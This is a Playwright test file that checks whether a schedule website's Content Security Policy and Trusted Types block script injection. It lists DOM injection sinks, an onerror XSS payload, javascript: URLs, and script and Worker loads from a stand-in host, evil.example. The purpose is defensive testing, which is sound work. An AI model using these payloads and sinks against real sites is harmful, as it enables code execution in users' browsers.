import type { Page } from '@playwright/test';
import { expect, test } from '../support/test.ts';

const MARKUP = '<img src="x:" onerror="hit()">';
/** Places where a text would become code, each as a remote would use it. */
const SINKS: readonly (readonly [place: string, use: string])[] = [
  ['Element innerHTML', `document.createElement('div').innerHTML = markup`],
  ['Element outerHTML', `document.body.appendChild(document.createElement('div')).outerHTML = markup`],
  ['Element insertAdjacentHTML', `document.body.insertAdjacentHTML('beforeend', markup)`],
  ['Element setHTMLUnsafe', `document.createElement('div').setHTMLUnsafe(markup)`],
  ['ShadowRoot innerHTML', `document.createElement('div').attachShadow({ mode: 'open' }).innerHTML = markup`],
  ['Range createContextualFragment', 'document.createRange().createContextualFragment(markup)'],
  ['DOMParser parseFromString', `new DOMParser().parseFromString(markup, 'text/html')`],
  ['Document write', 'document.write(markup)'],
  ['HTMLIFrameElement srcdoc', `document.createElement('iframe').srcdoc = markup`],
  ['HTMLScriptElement text', `document.createElement('script').text = 'hit()'`],
  ['HTMLScriptElement src', `document.createElement('script').src = 'https://evil.example/x.js'`],
  ['HTMLScriptElement src', "document.createElement('script').src = '//' + location.hostname + '.evil.example/x.js'"],
  ['HTMLScriptElement src', `document.createElement('script').src = 'data:text/javascript,hit()'`],
  ['HTMLScriptElement src', `document.createElement('script').src = URL.createObjectURL(new Blob(['hit()']))`],
  ['Worker constructor', `new Worker('https://evil.example/x.js')`],
  ['Element onerror', `document.createElement('img').setAttribute('onerror', 'hit()')`],
];

interface Refused {
  readonly directive: string;
  readonly sample: string;
}

const refusedOn = (page: Page) => page.evaluate(() => Reflect.get(window, 'refused') as Refused[]);

/** Notes what the content policy refuses, and whether anything has run. */
async function open(page: Page, path: string): Promise<void> {
  await page.addInitScript(() => {
    const refused: Refused[] = [];
    Object.assign(window, { refused, hits: 0, hit: () => Object.assign(window, { hits: 1 }) });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sample }) =>
      refused.push({ directive: effectiveDirective, sample }),
    );
  });
  await page.goto(path);
  await expect(page.getByRole('main')).toBeVisible();
}

test('no text becomes code, whichever way, and the browser names the place', async ({ page, problems }) => {
  problems.expect(/./);
  await open(page, '/fr/schedules');
  for (const [index, [place, use]] of SINKS.entries()) {
    const before = (await refusedOn(page)).length;
    const name = await page
      .evaluate(`(() => { const markup = ${JSON.stringify(MARKUP)}; ${use}; return 'done'; })()`)
      .catch((error: Error) => String(error));
    expect(name, `${index}: ${place}`).toMatch(/TypeError|EvalError|done/);
    await expect
      .poll(
        async () => (await refusedOn(page)).slice(before).map(({ directive, sample }) => `${directive} ${sample}`),
        `${index}: ${place}`,
      )
      .toContainEqual(expect.stringMatching(new RegExp(`^(require-trusted-types-for ${place}|script-src)`)));
  }
  expect(await page.evaluate(() => Reflect.get(window, 'hits'))).toBe(0);
});

test('an address that is code leads nowhere', async ({ page, problems }) => {
  problems.expect(/./);
  await open(page, '/fr/schedules');
  for (const lead of [
    () => {
      location.href = 'javascript:hit()';
    },
    () => void window.open('javascript:opener.hit()', '_self'),
    () => {
      const link = document.body.appendChild(document.createElement('a'));
      link.href = 'javascript:hit()';
      link.click();
    },
  ])
    await page.evaluate(lead);
  await expect.poll(async () => (await refusedOn(page)).length).toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => Reflect.get(window, 'hits'))).toBe(0);
  await expect(page).toHaveURL(/\/fr\/schedules$/);
});

test('nobody makes the rules a second time, or others', async ({ page, problems }) => {
  problems.expect(/./);
  await open(page, '/fr?widget=true');
  for (const name of ['default', 'halte#acme.parking', 'other']) {
    const made = page.evaluate((policy) => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): object };
      };
      trustedTypes.createPolicy(policy, { createHTML: (text: string) => text });
    }, name);
    await expect(made, name).rejects.toThrow(/TypeError/);
  }
});

test('the pages work in a browser without Trusted Types', async ({ page }) => {
  await page.addInitScript(() => {
    Reflect.deleteProperty(window, 'trustedTypes');
  });
  // Neither does such a browser know the directives.
  await page.route('**/fr/schedules', async (route) => {
    const answer = await route.fetch();
    const policy = answer.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("; require-trusted-types-for 'script'; trusted-types default;");
    const known = policy.replace(/require-trusted-types-for[^;]*; trusted-types[^;]*; /, '');
    await route.fulfill({ response: answer, headers: { ...answer.headers(), 'content-security-policy': known } });
  });
  await page.goto('/fr/schedules');
  await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();
  await page.getByRole('navigation').getByRole('link', { name: 'Itinéraire' }).first().click();
  await expect(page.getByRole('combobox').first()).toBeVisible();
});
